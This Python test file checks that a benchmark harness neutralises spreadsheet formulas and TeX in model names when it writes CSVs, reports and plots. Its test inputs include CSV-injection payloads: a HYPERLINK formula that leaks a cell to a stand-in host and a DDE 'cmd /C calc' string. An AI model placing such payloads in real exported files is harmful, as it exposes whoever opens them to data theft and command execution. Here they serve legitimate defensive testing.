"""Names from a run's rows are data, never code: no spreadsheet formula in any CSV, no TeX in any plot."""

from __future__ import annotations

import csv
import dataclasses
import math

import pandas as pd

from harness.core.csv_files import FORMULA_START
from harness.core.results import Row
from harness.rundir import RunDir
from reports.build import build_report
from reports.tables import read_metrics

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
NAMES = (FORMULA, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", r"$\frac{1}{$", "'quoted")


def _run_with_names(run_dir):
    """The fake run's rows plus, per untrusted name, a method with that name, written the way the runner writes."""
    frame = read_metrics(run_dir / "metrics.csv")
    base = [Row(**{k: (None if isinstance(v, float) and math.isnan(v) and k == "higher_is_better" else v)
                   for k, v in rec.items() if k in {f.name for f in dataclasses.fields(Row)}})
            for rec in frame.to_dict("records")]
    extra = [dataclasses.replace(r, model=name, value=r.value * 0.9) for name in NAMES
             for r in base if r.model == "cyclegan" and r.task == "scenes"]
    run = RunDir(run_dir)
    run.write_rows("all", base + extra)
    run.rebuild_metrics(["all"])
    return run_dir


def _cells(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_no_csv_the_harness_writes_starts_a_cell_with_a_formula(make_fake_run):
    run_dir = _run_with_names(make_fake_run("run"))
    build_report(run_dir)  # also: a TeX-looking name in the plots is a label, not an error
    written = sorted(run_dir.glob("*.csv"))
    assert {p.name for p in written} >= {"metrics.csv", "summary.csv", "comparisons.csv", "paired_vs_unpaired.csv"}
    for path in written:
        bad = [c for c in _cells(path) if c.startswith(FORMULA_START) and not _is_number(c)]
        assert not bad, (path.name, bad[:3])
    assert f"'{FORMULA}" in _cells(run_dir / "metrics.csv")
    assert f"'{FORMULA}" in set(_cells(run_dir / "summary.csv"))


def test_the_names_read_back_exactly(make_fake_run):
    run_dir = _run_with_names(make_fake_run("run"))
    models = set(read_metrics(run_dir / "metrics.csv")["model"])
    assert set(NAMES) <= models and not any(m.startswith("''") for m in models)
    html = build_report(run_dir).report_html.read_text(encoding="utf-8")
    assert "=HYPERLINK(&#34;http://example.invalid" in html or "=HYPERLINK(&quot;http://example.invalid" in html
    assert "&#39;=HYPERLINK" not in html and "'=HYPERLINK" not in html  # shown as named, without the CSV's quote
    plots = pd.read_json(run_dir / "plots" / "plots.json", typ="series")
    assert r"$\frac{1}{$" in plots["colours"]
